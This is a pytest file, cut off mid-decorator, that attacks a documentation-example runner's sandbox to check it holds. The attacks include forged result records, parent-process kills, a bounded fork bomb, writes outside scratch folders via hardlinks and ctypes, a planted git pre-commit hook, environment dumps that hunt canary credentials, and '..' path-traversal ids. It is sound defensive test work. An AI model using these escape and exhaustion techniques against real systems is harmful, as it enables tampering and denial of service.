"""Examples written by an attacker: each gets its own outcome and nothing escapes.

Every attack runs in real processes through `guidelint run` and is bounded (process
counts, bytes, seconds) so the test machine survives. Each test asserts the outcome
and that nothing escaped: the outside file is unchanged, no process is left (by
PID, after the run), the listeners received nothing, the later examples ran.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from guidelint.runner.cgroup import MemoryCgroups, _mount_point
from guidelint.runner.outcomes import Outcome
from guidelint.runner.run import RunOptions, RunReport, run_examples
from guidelint.runner.sandbox import SandboxFeatures, isolate_network
from tests.conftest import scratch_file

ROOT = Path(__file__).resolve().parents[2]
LINUX = sys.platform.startswith("linux")


def _features() -> SandboxFeatures:
    """What a worker on this machine gets (probed in a child: namespaces are one-way)."""
    read_fd, write_fd = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_fd)
        features = SandboxFeatures.probe(isolate_network())
        flags = (features.landlock, features.pid_namespace, features.seccomp)
        os.write(write_fd, repr(flags).encode())
        os._exit(0)
    os.close(write_fd)
    with os.fdopen(read_fd) as handle:
        landlock, pid_namespace, seccomp = eval(handle.read())  # noqa: S307 - our own repr
    os.waitpid(pid, 0)
    return SandboxFeatures(landlock, pid_namespace, seccomp)


FEATURES = _features() if LINUX else SandboxFeatures()
needs_landlock = pytest.mark.skipif(FEATURES.landlock < 6, reason="Landlock ABI >= 6 needed")
needs_pid_namespace = pytest.mark.skipif(not FEATURES.pid_namespace, reason="no PID namespace")
needs_seccomp = pytest.mark.skipif(not FEATURES.seccomp, reason="no seccomp")


def _memory_cgroups() -> MemoryCgroups | None:
    """Whether a worker here can make memory cgroups (made and removed at once)."""
    groups = MemoryCgroups.create() if LINUX else None
    if groups:
        groups.close()
    return groups


CGROUPS = _memory_cgroups()
needs_memory_cgroup = pytest.mark.skipif(CGROUPS is None, reason="no memory cgroup here")


def _fence(source: str, info: str = "") -> str:
    return f"```python{(' ' + info) if info else ''}\n{source.strip()}\n```\n\n"


def _run(tmp_path: Path, *blocks: str, config: str = "", jobs: int = 2) -> RunReport:
    (tmp_path / "pyproject.toml").write_text(f"[tool.guidelint.runner]\n{config}")
    guide = tmp_path / "guide.md"
    guide.write_text("".join(blocks))
    before = guide.read_bytes()
    report = run_examples(RunOptions(paths=[guide], report_dir=tmp_path / "report", jobs=jobs))
    assert guide.read_bytes() == before, "the guide changed without --update"
    return report


def _by_id(report: RunReport) -> dict[str, object]:
    return {r.id: r for r in report.results}


def _gone(pid: int, seconds: float = 10.0) -> bool:
    for _ in range(int(seconds / 0.05)):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                if handle.read().rsplit(")", 1)[1].split()[0] == "Z":
                    return True
        except OSError:
            return True
        time.sleep(0.05)
    return False


def _children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as handle:
                    if int(handle.read().rsplit(")", 1)[1].split()[1]) == pid:
                        found.append(int(entry))
            except (OSError, ValueError, IndexError):
                continue
    return found


@pytest.fixture
def outside(tmp_path_factory):
    """A file outside every scratch folder, and its content, to check it after."""
    path = tmp_path_factory.mktemp("outside") / "outside.txt"
    path.write_text("original\n")
    return path


# -- the result channel ---------------------------------------------------------------


def test_a_forged_pass_on_every_descriptor_is_the_examples_own_error(tmp_path):
    forge = """
import os
for fd in range(3, 256):
    try:
        os.write(fd, b'{"status": "passed"}\\n')
    except OSError:
        pass
raise ValueError("this example fails")
"""
    report = _run(tmp_path, _fence(forge, "{id=forge}"), _fence("print('later')", "{id=later}"))
    forged, later = _by_id(report)["forge"], _by_id(report)["later"]
    assert forged.status.value == "error", forged.message
    assert "result channel" in forged.message
    assert later.status.value == "passed" and later.stdout == "later\n"


def test_a_well_formed_record_without_the_seal_is_refused(tmp_path):
    forge = """
import json, os
line = json.dumps({"index": 0, "status": "passed", "message": "", "duration_s": 0.0,
                   "substitutions": [], "images": [], "pipelines": [],
                   "seal": "guess"}) + "\\n"
for fd in range(3, 256):
    try:
        os.write(fd, line.encode())
    except OSError:
        pass
os._exit(0)
"""
    (result,) = _run(tmp_path, _fence(forge)).results
    assert result.status.value == "error", result.message
    assert "the unit's seal" in result.message


@pytest.mark.parametrize(
    "garbage",
    [
        b"\\xff\\xfe not json at all\\n",
        b'{"status": "no-such-status"}\\n',
        b"[1, 2, 3]\\n",
        b'{"status": "passed", "index": "0"}\\n',
        b"\\n\\n{{{{\\n",
    ],
)
def test_garbage_on_the_result_channel_is_that_examples_outcome(tmp_path, garbage):
    attack = f"""
import os, time
for fd in range(3, 256):
    try:
        os.write(fd, {garbage.decode()!r}.encode("latin-1"))
    except OSError:
        pass
time.sleep(0.2)
"""
    report = _run(tmp_path, _fence(attack, "{id=garbage}"), _fence("print('ok')", "{id=after}"))
    by_id = _by_id(report)
    assert by_id["garbage"].status.value == "error", by_id["garbage"].message
    assert "result channel" in by_id["garbage"].message
    assert by_id["after"].status.value == "passed"


def test_os_exit_zero_mid_example_is_not_a_pass(tmp_path):
    attack = "import os\nprint('half')\nos._exit(0)\nraise AssertionError('never')"
    session = _fence("x = 1", "{session=s id=first}") + _fence(attack, "{session=s id=exits}")
    report = _run(tmp_path, session, _fence("print('after')", "{id=after}"))
    by_id = _by_id(report)
    assert by_id["first"].status.value == "passed"
    assert by_id["exits"].status.value == "crashed", by_id["exits"].message
    assert "status 0" in by_id["exits"].message
    assert by_id["after"].status.value == "passed"


def test_a_printed_boundary_marker_cannot_shift_outputs(tmp_path):
    attack = """
import sys
markers = set()
frame = sys._getframe()
while frame is not None:  # the harness's frames, below the example's
    value = frame.f_locals.get("marker")
    if isinstance(value, str) and value.startswith("\\x00guidelint-boundary-"):
        markers.add(value)
    frame = frame.f_back
print(len(markers), end="")
for marker in markers:
    print(marker, end="")
print("expected")
"""
    (result,) = _run(tmp_path, _fence(attack) + "```output\n1expected\n```\n").results
    assert result.status.value == "error", result.message
    assert "a boundary marker in its output" in result.message


# -- isolation between examples ---------------------------------------------------------


@needs_pid_namespace
def test_killing_the_parent_does_not_sink_the_later_examples(tmp_path):
    attack = """
import os, signal
for pid in (os.getppid(), 0):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(type(error).__name__)
stat = open('/proc/self/stat').read().rsplit(')', 1)[1].split()
host_parent = int(stat[1])
grandparent = int(open(f'/proc/{host_parent}/stat').read().rsplit(')', 1)[1].split()[1])
for pid in (host_parent, grandparent):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(type(error).__name__)
"""
    blocks = [_fence(attack, "{id=killer}")] + [
        _fence(f"print({n})", f"{{id=later-{n}}}") for n in range(4)
    ]
    report = _run(tmp_path, *blocks, jobs=1)
    by_id = _by_id(report)
    assert by_id["killer"].status.value in ("passed", "crashed")
    for n in range(4):
        assert by_id[f"later-{n}"].status.value == "passed", by_id[f"later-{n}"].message
        assert by_id[f"later-{n}"].stdout == f"{n}\n"


def test_a_killed_worker_is_replaced_and_the_rest_still_run(tmp_path):
    """Kill the warm worker (as native code might) while an example runs in it."""
    flag = tmp_path / "killed-once"
    name = f"worker-{os.getpid()}-{time.monotonic_ns()}"
    victim = f"""
import os, pathlib, time
if pathlib.Path({str(flag)!r}).exists():
    print("rerun")
else:
    me = os.readlink('/proc/self')
    def parent(pid):
        return int(open(f'/proc/{{pid}}/stat').read().rsplit(')', 1)[1].split()[1])
    worker = parent(parent(me)) if os.getpid() == 1 else parent(me)
    pathlib.Path({name!r}).write_text(str(worker))
    time.sleep(60)
"""
    killed: list[int] = []

    def kill_once() -> None:
        pid_file = scratch_file(name)
        if pid_file is not None:
            flag.write_text("x")
            killed.append(int(pid_file.read_text()))
            os.kill(killed[0], signal.SIGKILL)

    thread = threading.Thread(target=kill_once, daemon=True)
    thread.start()
    blocks = [_fence(victim, "{id=victim timeout=30}")] + [
        _fence(f"print({n})", f"{{id=after-{n}}}") for n in range(3)
    ]
    report = _run(tmp_path, *blocks, jobs=1)
    thread.join(timeout=5)
    by_id = _by_id(report)
    assert killed and _gone(killed[0])
    assert by_id["victim"].status.value == "passed", by_id["victim"].message
    assert by_id["victim"].stdout == "rerun\n"  # retried alone in a fresh worker
    for n in range(3):
        assert by_id[f"after-{n}"].status.value == "passed", by_id[f"after-{n}"].message


def test_a_warm_import_that_kills_the_worker_fails_only_its_example(
    tmp_path, tmp_path_factory, monkeypatch
):
    """The worker imports what examples import before forking them; one such import
    ending the process must not crash the examples that never asked for it. (The module
    lies outside the project: the project's own modules are never warm-imported.)"""
    site = tmp_path_factory.mktemp("site")
    (site / "fatal_import.py").write_text("import os\nos._exit(3)\n")
    path = os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH")) if p)
    monkeypatch.setenv("PYTHONPATH", path)
    config = 'warm-imports = ["fatal_import"]\nenv-allowlist = ["PATH", "PYTHONPATH"]\n'
    blocks = [_fence("import fatal_import", "{id=fatal}")] + [
        _fence(f"print({n})", f"{{id=plain-{n}}}") for n in range(3)
    ]
    by_id = _by_id(_run(tmp_path, *blocks, config=config, jobs=1))
    assert by_id["fatal"].status.value == "crashed"
    assert "status 3" in by_id["fatal"].message, by_id["fatal"].message
    for n in range(3):
        assert by_id[f"plain-{n}"].status.value == "passed", by_id[f"plain-{n}"].message


@needs_landlock
def test_a_configured_warm_import_of_the_projects_own_module_runs_sandboxed(
    tmp_path, outside, monkeypatch
):
    """The pull request adds a module of its own to `runner.warm-imports`, importable in
    the worker as the project's package is after an editable install (here through
    PYTHONPATH, set for this process only). The warm worker holds no wall, so importing
    it there ran the module outside every sandbox; it is imported by the example, in its
    sandbox, instead."""
    (tmp_path / "planted_warm.py").write_text(
        f"from pathlib import Path\nPath({str(outside)!r}).write_text('planted')\n"
    )
    path = os.pathsep.join(p for p in (str(tmp_path), os.environ.get("PYTHONPATH")) if p)
    monkeypatch.setenv("PYTHONPATH", path)
    config = 'warm-imports = ["planted_warm"]\nenv-allowlist = ["PATH", "PYTHONPATH"]\n'
    (result,) = _run(tmp_path, _fence("import planted_warm"), config=config).results
    assert outside.read_text() == "original\n"
    assert result.status.value == "refused", result.message


@needs_pid_namespace
def test_a_double_forked_daemon_dies_with_its_example(tmp_path, outside):
    attack = f"""
import os, time
read, write = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(write, os.readlink('/proc/self').encode())
        time.sleep(3)
        try:
            open({str(outside)!r}, 'a').write('daemon\\n')
        finally:
            os._exit(0)
    os._exit(0)
print(os.read(read, 32).decode())
"""
    (result,) = _run(tmp_path, _fence(attack)).results
    assert result.status.value == "passed", result.message
    assert _gone(int(result.stdout))
    time.sleep(3.5)  # past the moment the daemon would have written
    assert outside.read_text() == "original\n"


@needs_pid_namespace
def test_a_fork_bomb_is_bounded_and_leaves_nothing(tmp_path):
    attack = """
import os, time
me = os.readlink('/proc/self')
print(me, flush=True)
for _ in range(600):  # bounded: the limit is 256 processes per example
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
time.sleep(30)
"""
    (result,) = _run(tmp_path, _fence(attack, "{timeout=20}"), jobs=1).results
    assert result.status.value in ("crashed", "error"), result.message
    example = int(result.stdout.split()[0])
    assert _gone(example)
    assert all(_gone(pid) for pid in _children(example))


def test_memory_of_forked_children_counts_against_the_limit(tmp_path):
    attack = """
import os, time
for _ in range(4):
    if os.fork() == 0:
        data = b'x' * (100 * 2**20)
        time.sleep(30)
        os._exit(0)
time.sleep(30)
"""
    report = _run(tmp_path, _fence(attack, "{timeout=25}"), config="memory-limit-mb = 256\n")
    (result,) = report.results
    assert result.status.value == "crashed", result.message
    assert "memory limit" in result.message


@needs_memory_cgroup
def test_each_example_has_its_own_memory_cgroup_at_the_limit_removed_after(tmp_path):
    assert CGROUPS is not None
    with open("/proc/self/mountinfo") as handle:
        mounts = [line.split() for line in handle]
    if CGROUPS.v2:
        mount, limit_file = _mount_point(mounts, "cgroup2", None), "memory.max"
    else:
        mount, limit_file = _mount_point(mounts, "cgroup", "memory"), "memory.limit_in_bytes"
    probe = f"""
ours = [line.split(":", 2) for line in open("/proc/self/cgroup") if "/guidelint-" in line]
line = ":".join(next((m for m in ours if "memory" in m[1].split(",")), ours[0]))
folder = {mount!r} + line.rstrip().split(":", 2)[2]
print(folder)
print(open(folder + "/{limit_file}").read().strip())
"""
    report = _run(tmp_path, _fence(probe), _fence(probe), config="memory-limit-mb = 192\n")
    folders = []
    for result in report.results:
        assert result.status.value == "passed", result.message
        folder, limit = result.stdout.split()
        assert os.path.basename(os.path.dirname(folder)).startswith("guidelint-")
        assert os.path.basename(folder).startswith("example-")
        assert int(limit) == 192 * 2**20
        folders.append(folder)
    assert len(set(folders)) == 2, "two examples, two groups"
    assert not any(os.path.exists(f) or os.path.exists(os.path.dirname(f)) for f in folders)


@needs_memory_cgroup
def test_a_burst_of_processes_between_two_checks_is_stopped_by_the_kernel(tmp_path):
    # Three processes of 100 MB each against 128 MB, each gone within milliseconds: a
    # watchdog that looks five times a second can miss them; the cgroup cannot.
    burst = """
import subprocess, sys
fill = "data = b'x' * (100 * 2**20)"
processes = [subprocess.Popen([sys.executable, "-c", fill]) for _ in range(3)]
print([p.wait() for p in processes])
"""
    report = _run(tmp_path, _fence(burst, "{timeout=30}"), config="memory-limit-mb = 128\n")
    (result,) = report.results
    assert result.status.value == "crashed", (result.message, result.stdout)
    assert "memory cgroup" in result.message


def test_sigterm_ends_every_example_and_worker_and_removes_their_folders(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    report_dir = tmp_path / "report"
    name = f"pids-{os.getpid()}-{time.monotonic_ns()}"
    example = f"""
import os, pathlib, time
if os.fork() == 0:
    os.setsid()
    time.sleep(120)
    os._exit(0)
me = os.readlink('/proc/self')
pathlib.Path({name!r}).write_text(me + " " + os.getcwd())
time.sleep(120)
"""
    (tmp_path / "guide.md").write_text(_fence(example, "{id=slow timeout=100}"))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    process = subprocess.Popen(
        [sys.executable, "-m", "guidelint", "run", "guide.md", "--report-dir", str(report_dir)],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    pid_file = scratch_file(name)
    assert pid_file is not None
    example_pid, scratch = pid_file.read_text().split(" ", 1)
    workers = [p for p in _children(process.pid)]
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=20)
    assert process.returncode == 128 + signal.SIGTERM, stderr
    assert stderr.decode().strip().count("\n") == 0  # one line
    assert "stopped by SIGTERM" in stderr.decode()
    assert _gone(int(example_pid), seconds=3)
    assert all(_gone(w, seconds=3) for w in workers)
    assert not Path(scratch).exists()


# -- the file, socket and network walls -----------------------------------------------------


@needs_landlock
@pytest.mark.parametrize(
    "attack",
    [
        "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned >> OUTSIDE'])",
        "import os\nos.link('OUTSIDE', 'hl')\nopen('hl', 'w').write('pwned')",
        "import os\nd = os.open(os.path.dirname('OUTSIDE'), os.O_RDONLY)\n"
        "fd = os.open(os.path.basename('OUTSIDE'), os.O_WRONLY | os.O_TRUNC, dir_fd=d)\n"
        "os.write(fd, b'pwned')",
        "import sqlite3\n"
        "sqlite3.connect(os.path.dirname('OUTSIDE') + '/x.db').execute('create table t(x)')",
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "fd = libc.open(b'OUTSIDE', 0o1001)\nassert fd < 0, 'native open succeeded'",
        "import multiprocessing as mp\nctx = mp.get_context('spawn')\n"
        "p = ctx.Process(target=open, args=('OUTSIDE', 'w'))\np.start(); p.join()",
        "open('/dev/shm/guidelint-escape', 'w').write('x')",
    ],
    ids=["subprocess", "hardlink", "dir-fd", "sqlite", "ctypes", "spawn", "dev-shm"],
)
def test_writes_outside_scratch_are_refused_by_the_kernel(tmp_path, outside, attack):
    source = "import os\n" + attack.replace("OUTSIDE", str(outside))
    report = _run(tmp_path, _fence(source, "{id=attack}"), _fence("print('ok')", "{id=after}"))
    assert outside.read_text() == "original\n"
    assert sorted(p.name for p in outside.parent.iterdir()) == ["outside.txt"]
    assert not Path("/dev/shm/guidelint-escape").exists()
    assert _by_id(report)["after"].status.value == "passed"


@needs_landlock
def test_git_hooks_cannot_be_planted(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    hooks = repo / ".git" / "hooks"
    before = sorted(p.name for p in hooks.iterdir())
    attack = f"""
import subprocess
hook = '{hooks}/pre-commit'
subprocess.run(['sh', '-c', f'echo "touch /tmp/pwned" > {{hook}}; chmod +x {{hook}}'])
"""
    (result,) = _run(repo, _fence(attack)).results
    assert sorted(p.name for p in hooks.iterdir()) == before


@needs_seccomp
def test_a_host_unix_socket_is_not_reachable(tmp_path):
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    path = tmp_path / "host.sock"
    listener.bind(str(path))
    listener.listen(4)
    listener.setblocking(False)
    attack = f"""
import ctypes, socket
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect({str(path)!r})
    s.sendall(b'hello')
    print('connected')
except OSError as error:
    print(type(error).__name__)
libc = ctypes.CDLL(None)
print('native', libc.socket(1, 1, 0))
"""
    try:
        (result,) = _run(tmp_path, _fence(attack)).results
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    assert "connected" not in result.stdout
    assert "native -1" in result.stdout


GPU_HERE = os.path.exists("/dev/nvidia0") or os.path.exists("/dev/nvidiactl")


@pytest.mark.skipif(not GPU_HERE, reason="the GPU path runs only where a GPU is (/dev/nvidia*)")
@needs_landlock
def test_the_gpu_path_keeps_the_walls(tmp_path, outside):
    """With a GPU the child has no address-space limit and may write the GPU's device
    files (#28: the GPU path was untested); every other wall still holds."""
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    path = tmp_path / "host.sock"
    listener.bind(str(path))
    listener.listen(4)
    listener.setblocking(False)
    cache = tmp_path / ".guidelint_cache" / "results"
    cache.mkdir(parents=True)
    attack = f"""
import socket
for action in (
    lambda: open({str(outside)!r}, "w").write("pwned"),
    lambda: open({str(cache / "entry")!r}, "w").write("pwned"),
    lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect({str(path)!r}),
):
    try:
        action()
        print("escaped")
    except OSError as error:
        print(type(error).__name__)
"""
    try:
        report = _run_default(tmp_path, _fence(attack, "{needs=gpu}"), jobs=1)
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    (result,) = report.results
    assert result.status.value == "passed", result.message
    assert "escaped" not in result.stdout and len(result.stdout.split()) == 3, result.stdout
    assert outside.read_text() == "original\n" and not (cache / "entry").exists()


def test_a_host_tcp_listener_receives_nothing(tmp_path):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    attack = f"""
import ctypes, socket, struct
libc = ctypes.CDLL(None)
fd = libc.socket(2, 1, 0)
address = struct.pack('<HH4s8x', 2, socket.htons({port}), socket.inet_aton('127.0.0.1'))
print('native', libc.connect(fd, address, len(address)))
"""
    try:
        (result,) = _run(tmp_path, _fence(attack)).results
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    assert "native -1" in result.stdout, result.stdout + result.message


def test_removing_a_scratch_file_by_absolute_path_after_chdir_is_allowed(tmp_path):
    example = """
import os
path = os.path.abspath('note.txt')
open(path, 'w').write('x')
os.chdir('/')
os.remove(path)
print('removed')
"""
    (result,) = _run(tmp_path, _fence(example)).results
    assert result.status.value == "passed", result.message


def test_the_canary_secret_is_not_there(tmp_path, monkeypatch):
    monkeypatch.setenv("GUIDELINT_CANARY_TOKEN", "canary-4f1d")
    example = "import subprocess\nprint(subprocess.run(['env'], capture_output=True).stdout)"
    (result,) = _run(tmp_path, _fence(example)).results
    assert "canary-4f1d" not in result.stdout


def test_a_configured_allowlist_of_everything_passes_no_credential(tmp_path, monkeypatch):
    """The pull request rewrites `env-allowlist` to `["*"]`: CI tokens, keys and a
    private index's password still never reach an example (or the report it prints to)."""
    secrets = {
        "GITHUB_TOKEN": "ghs-canary-1",
        "ACTIONS_ID_TOKEN_REQUEST_URL": "https://canary-2.example/token",
        "AWS_SECRET_ACCESS_KEY": "canary-3",
        "OPENAI_API_KEY": "canary-4",
        "NPM_CONFIG__AUTH": "canary-5",
        "PIP_INDEX_URL": "https://ci:canary-6@pypi.example/simple",
        "DB_PASSWORD": "canary-7",
        "SENTRY_DSN": "https://canary-8@sentry.example/1",
        "SLACK_WEBHOOK_URL": "https://hooks.example/canary-9",
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("GUIDELINT_PLAIN_SETTING", "plain-value")
    example = "import os\nprint(sorted(os.environ.items()))"
    (result,) = _run(tmp_path, _fence(example), config='env-allowlist = ["*"]\n').results
    assert result.status.value == "passed", result.message
    assert "plain-value" in result.stdout  # the allowlist still works
    for value in secrets.values():
        assert value not in result.stdout


def test_the_report_says_which_walls_the_kernel_enforces(tmp_path):
    report = _run(tmp_path, _fence("print(1)"))
    assert report.sandbox is not None
    assert report.sandbox["landlock_abi"] == FEATURES.landlock
    assert report.sandbox["memory_cgroup"] == (CGROUPS is not None)
    gaps = report.sandbox["gaps"]
    assert ("sandbox: landlock unavailable, writes not confined" in gaps) == (not FEATURES.landlock)
    assert all(gap in report.notes for gap in gaps)
    assert report.as_json()["sandbox"] == report.sandbox


# -- guides are inputs ------------------------------------------------------------------


def _cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "guidelint", "run", *args],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


NEST = """
import os
os.mkdir('a')
for _ in range(1500):  # a rename a level: 1,500 levels in a second or two
    os.mkdir('b')
    os.rename('a', 'b/a')
    os.rename('b', 'a')
open('deep.png', 'wb').write(b'png')
print('nested')
"""


def test_folders_nested_past_the_recursion_limit_sink_no_verdict(tmp_path):
    """An example nests 1,500 folders in its scratch folder. Removing it (shutil.rmtree)
    and walking it for images (os.fwalk) recurse once per level: the RecursionError
    killed the warm worker, made the next example `crashed`, and `guidelint run` ended
    in a traceback while removing the worker's folder."""
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    blocks = [_fence(NEST, "{id=nest}"), _fence("print('after')", "{id=after}")]
    (tmp_path / "guide.md").write_text("".join(blocks))
    completed = _cli(tmp_path, "guide.md", "--jobs", "1", "--format", "json")
    assert "Traceback" not in completed.stderr, completed.stderr[-2000:]
    report = json.loads(completed.stdout)
    by_id = {r["id"]: r for r in report["examples"]}
    nest = by_id["nest"]
    # Stopped by the disk check (nested past 64) or done first: either way its own.
    assert nest["status"] == "passed" or "nested more than 64" in nest["message"], nest
    assert completed.returncode == (0 if nest["status"] == "passed" else 1)
    assert by_id["after"]["status"] == "passed", by_id["after"]["message"]
    assert by_id["after"]["stdout"] == "after\n"


def test_a_tree_past_the_recursion_limit_is_walked_and_removed(tmp_path):
    """The removal and the image walk themselves, on 1,500 nested folders (the run above
    may stop its example before it nests that deep). Images 32 folders down or deeper
    are not looked for."""
    from guidelint.confine import DIR_FLAGS, files_below, remove_tree

    top = tmp_path / "scratch"
    (top / "a").mkdir(parents=True)
    (top / "a" / "buried.png").write_bytes(b"png")
    (top / "plots").mkdir()
    (top / "plots" / "near.png").write_bytes(b"png")
    os.chdir(top)
    try:
        for _ in range(1500):
            os.mkdir("b")
            os.rename("a", "b/a")
            os.rename("b", "a")
        fd = os.open(top, DIR_FLAGS)
        try:
            kept = [name for name, _ in files_below(fd)]
        finally:
            os.close(fd)
    finally:
        os.chdir(tmp_path)
        remove_tree(top)  # pytest's own clean-up of tmp_path would recurse
    assert kept == ["plots/near.png"]
    assert not top.exists()


# Files the once-a-second disk sum could not see: below a path too long to name (2,100
# folders deep), or past the 20,000 entries it looks at. 15 MB in each case, 8 allowed.
HIDDEN_WRITES = {
    "nested": """
import os, time
os.mkdir('a')
for _ in range(2100):
    os.mkdir('b')
    os.rename('a', 'b/a')
    os.rename('b', 'a')
fd = os.open('a', os.O_RDONLY)
for _ in range(2100):
    below = os.open('a', os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = below
""",
    "many": """
import os, time
for n in range(20100):
    open(f'empty-{n}', 'w').close()
os.mkdir('z')
fd = os.open('z', os.O_RDONLY)
""",
}
WRITE_15_MB = """
for n in range(3):
    out = os.open(f'part-{n}', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(out, b'x' * (5 << 20))
    os.close(out)
time.sleep(4)
print('hidden')
"""


@pytest.mark.parametrize("how", sorted(HIDDEN_WRITES))
def test_files_hidden_from_the_disk_check_still_count(tmp_path, how):
    attack = HIDDEN_WRITES[how] + WRITE_15_MB
    config = "disk-limit-mb = 8\n"
    (result,) = _run(tmp_path, _fence(attack, "{timeout=50}"), config=config, jobs=1).results
    assert result.status.value == "crashed", (result.status, result.message, result.stdout)
    assert "disk limit exceeded" in result.message


@pytest.mark.parametrize(
    "content",
    [b"```python\nprint(1)\n```\n\xff\n", b"```python\nprint(1)\x00\n```\n"],
    ids=["not-utf8", "binary"],
)
def test_an_unreadable_guide_fails_the_run_in_one_line(tmp_path, content):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    (tmp_path / "guide.md").write_bytes(content)
    completed = _cli(tmp_path, "guide.md", "--report-dir", "r")
    assert completed.returncode == 1, completed.stdout + completed.stderr
    assert "OK:" not in completed.stdout
    lines = [line for line in completed.stdout.splitlines() if line.startswith("guide.md")]
    assert len(lines) == 1


def test_update_never_writes_control_bytes_into_a_guide(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    guide = tmp_path / "guide.md"
    guide.write_text("```python\nprint('a\\x00b\\x1bc')\n```\n\n```output\nold\n```\n")
    before = hashlib.sha256(guide.read_bytes()).hexdigest()
    completed = _cli(tmp_path, "guide.md", "--update", "--report-dir", "r")
    assert hashlib.sha256(guide.read_bytes()).hexdigest() == before
    notes = [line for line in completed.stdout.splitlines() if "not updated" in line]
    assert len(notes) == 1 and "control character" in notes[0]
    assert completed.returncode == 1


# -- report folders the attacker does not choose (#28) -----------------------------------------


def _run_default(root: Path, *blocks: str, config: str = "", jobs: int = 2) -> RunReport:
    """A run with the configured report folder (no --report-dir), as CI runs it."""
    (root / "pyproject.toml").write_text(f"[tool.guidelint.runner]\n{config}")
    guide = root / "guide.md"
    guide.write_text("".join(blocks))
    return run_examples(RunOptions(paths=[guide], jobs=jobs))


def test_slugs_are_names():
    from guidelint.runner.plan import slug

    for text in ("..", ".", "../..", "a/../../b", "/etc", "x\x00y"):
        name = slug(text)
        assert "/" not in name and name not in (".", "..") and "\x00" not in name


def test_an_example_id_is_a_name_never_a_path(tmp_path):
    name = ".."
    planted = tmp_path / "planted.txt"
    attack = f"""
import os
for target in ({str(planted)!r}, {str(tmp_path / ".guidelint_cache" / "planted.txt")!r}):
    try:
        open(target, "w").write("pwned")
    except OSError as error:
        print(type(error).__name__)
"""
    (tmp_path / ".guidelint_cache").mkdir()
    report = _run_default(tmp_path, _fence(attack, f"{{id={name}}}"))
    assert not planted.exists()
    assert not (tmp_path / ".guidelint_cache" / "planted.txt").exists()
    run_dir = tmp_path / ".guidelint_cache" / "run"
    assert all(p.parent == run_dir for p in run_dir.iterdir()), "a folder outside run/"
    assert len(report.results[0].stdout.split()) == 2, report.results[0].message  # both refused


@needs_landlock
def test_an_id_of_dots_under_a_report_dir_in_the_repository_writes_nothing_there(tmp_path):
    """`--report-dir run-report` (as RUNNING.md shows) with `id=..` made the whole
    repository writable, and an example planted `.git/hooks/pre-commit` (#28)."""
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    hooks = tmp_path / ".git" / "hooks"
    before = sorted(p.name for p in hooks.iterdir())
    attack = f"""
for target in ({str(hooks / "pre-commit")!r}, {str(tmp_path / "planted.txt")!r}):
    try:
        open(target, "w").write("touch /tmp/pwned")
    except OSError as error:
        print(type(error).__name__)
"""
    (tmp_path / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
    guide = tmp_path / "guide.md"
    guide.write_text(_fence(attack, "{id=..}"))
    report = run_examples(RunOptions(paths=[guide], report_dir=tmp_path / "run-report"))
    assert sorted(p.name for p in hooks.iterdir()) == before
    assert not (tmp_path / "planted.txt").exists()
    assert len(report.results[0].stdout.split()) == 2, report.results[0].message  # refused
    run_report = tmp_path / "run-report"
    assert all(p.parent == run_report for p in run_report.iterdir()), "a folder outside it"


def test_a_committed_symlink_for_the_report_folder_is_refused(tmp_path, outside):
    from guidelint.config import ConfigError

    (tmp_path / ".guidelint_cache").symlink_to(outside.parent, target_is_directory=True)
    with pytest.raises(ConfigError, match="is a symlink"):
        _run_default(tmp_path, _fence("print(1)", "{id=run}"))
    assert sorted(p.name for p in outside.parent.iterdir()) == ["outside.txt"]


def test_a_symlinked_run_folder_under_the_cache_is_refused(tmp_path):
    from guidelint.config import ConfigError

    (tmp_path / ".guidelint_cache").mkdir()
    (tmp_path / ".guidelint_cache" / "run").symlink_to("/", target_is_directory=True)
    with pytest.raises(ConfigError, match="run is a symlink"):
        _run_default(tmp_path, _fence("print(1)", "{id=tmp}"))


@pytest.mark.parametrize(
    "setting",
    ['report-dir = "../elsewhere"', 'report-dir = "/tmp"', 'tiny-cache = "/etc"'],
)
